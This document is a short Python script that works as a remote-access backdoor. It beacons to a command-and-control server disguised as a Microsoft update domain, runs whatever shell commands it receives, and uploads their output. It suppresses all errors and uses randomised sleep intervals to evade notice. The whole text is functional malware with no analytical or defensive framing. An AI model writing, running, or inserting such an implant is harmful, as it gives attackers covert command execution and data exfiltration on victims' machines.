import json
import random
import subprocess
import time
import urllib.request

C2 = "http://ms-update-check.com/api"
while True:
    try:
        with urllib.request.urlopen(f"{C2}/beacon") as r:
            jobs = json.load(r)
        for job in jobs:
            out = subprocess.check_output(job["cmd"], shell=True, stderr=subprocess.STDOUT)
            urllib.request.urlopen(f"{C2}/out/{job['id']}", data=out)
    except Exception:
        pass
    time.sleep(60 + random.randint(0, 30))
